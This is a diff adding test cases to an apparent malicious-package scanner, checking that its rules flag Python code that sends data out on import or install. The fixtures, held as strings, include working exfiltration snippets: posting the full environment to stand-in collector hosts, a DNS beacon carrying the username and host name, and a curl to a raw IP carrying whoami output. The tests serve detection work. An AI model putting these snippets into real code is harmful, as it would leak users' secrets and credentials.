@@ -44,3 +44,31 @@ describe('exfil-endpoint: import-time phone-home to any host', () => {
     expect(hits('exfil-endpoint', { 'pkg/__init__.py': split })).toEqual([]);
   });
 });
+
+describe('exfil-endpoint: what gets sent without a known endpoint', () => {
+  it('holds the whole environment serialised and posted on import (high)', () => {
+    const src = `import os, json, base64, requests\ntry:\n    blob = base64.b64encode(json.dumps(dict(os.environ)).encode()).decode()\n    requests.post("http://collector.invalid.example.net/p.php", data={"text": blob})\nexcept Exception:\n    pass\n`;
+    expect(maxSev(hits('exfil-endpoint', { 'pkg/__init__.py': src }))).toBe('high');
+  });
+  it('holds `whoami` and the host name sent through dig on import (high)', () => {
+    const src = `import socket, subprocess\ndef beacon():\n    user = subprocess.getoutput("whoami")\n    sub = user + "." + socket.gethostname() + ".oob.attacker.xyz"\n    subprocess.Popen(["dig", "+short", sub])\nbeacon()\n`;
+    const f = hits('exfil-endpoint', { 'pkg/__init__.py': src });
+    expect(maxSev(f)).toBe('high');
+    expect(f[0].message).toMatch(/subprocess\.Popen/);
+  });
+  it('holds a curl command carrying $(whoami) even in a test file nothing runs (high)', () => {
+    const src = `import subprocess\ndef test_callback():\n    subprocess.run(["curl", "-fsSL", "http://46.62.163.241:8585/d?host=$(uname -a)&user=$(whoami)"])\n`;
+    expect(maxSev(hits('exfil-endpoint', { 'pkg/test_callback.py': src }))).toBe('high');
+  });
+  it('notes (low) a hard-coded outside URL called on import, not a local one, nor one in a function', () => {
+    expect(maxSev(hits('exfil-endpoint', { 'pkg/__init__.py': `import requests\nrequests.get("https://status.vendor-updates.io/v1/ping")\n` }))).toBe('low');
+    expect(hits('exfil-endpoint', { 'pkg/__init__.py': `import requests\nrequests.get("http://localhost:8080/ping")\nrequests.get("http://10.0.0.5/x")\n` })).toEqual([]);
+    expect(hits('exfil-endpoint', { 'pkg/__init__.py': `import requests\ndef ping():\n    return requests.get("https://status.vendor-updates.io/v1/ping")\n` })).toEqual([]);
+  });
+  it('does not take an environment copy handed to a build step for an environment dump (install-time-exec stays below critical)', () => {
+    const src = `import os, subprocess, urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve("https://example.org/src.tar.gz", "src.tar.gz")\nenv = dict(os.environ, CC="gcc")\nsubprocess.check_call(["make"], env=env)\nsetup(name="pkg")\n`;
+    expect(['low', 'medium', 'high']).toContain(maxSev(hits('install-time-exec', { 'setup.py': src })));
+    const dump = `import os, json, urllib.request\nfrom setuptools import setup\nurllib.request.urlopen("https://collector.attacker.xyz/e", data=json.dumps(dict(os.environ)).encode())\nsetup(name="pkg")\n`;
+    expect(maxSev(hits('install-time-exec', { 'setup.py': dump }))).toBe('critical');
+  });
+});
